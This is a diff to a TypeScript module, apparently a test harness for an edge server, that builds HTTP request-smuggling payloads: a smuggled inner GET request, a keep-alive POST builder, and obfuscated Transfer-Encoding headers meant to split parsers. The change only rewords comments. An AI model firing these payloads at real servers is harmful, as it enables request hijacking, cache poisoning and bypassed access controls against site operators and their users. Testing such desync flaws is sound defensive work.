@@ -4,10 +4,10 @@ import { edgeHost } from '../../../scripts/edge/ask-edge.ts'
 import { get } from './send.ts'
 import { swap, type AttackClass } from './technique.ts'
 
-/** The request within a request. */
+/** The smuggled request. */
 const inner = (mark: string): string => `GET /${mark} HTTP/1.1\r\nHost: ${edgeHost}\r\nX-Inner: 1\r\n\r\n`
 
-/** A form of the site, whose body may have what it likes; the connection stays open for what follows. */
+/** Posts a form of the site with any body; the connection stays open for further requests. */
 const post = (lines: string[], body: string, target = '/submit'): string =>
   `POST ${target} HTTP/1.1\r\nHost: ${edgeHost}\r\n${lines.join('\r\n')}\r\n\r\n${body}`
 
@@ -15,7 +15,7 @@ const chunk = (body: string, end = '0\r\n\r\n'): string => `${body.length.toStri
 
 const chunked = 'Transfer-Encoding: chunked'
 
-/** Each announces chunks in a way that one parser takes and another does not see. */
+/** Headers that announce chunked encoding in ways that one parser accepts and another ignores. */
 const veiled = [
   'Transfer-Encoding: xchunked',
   'Transfer-Encoding : chunked',
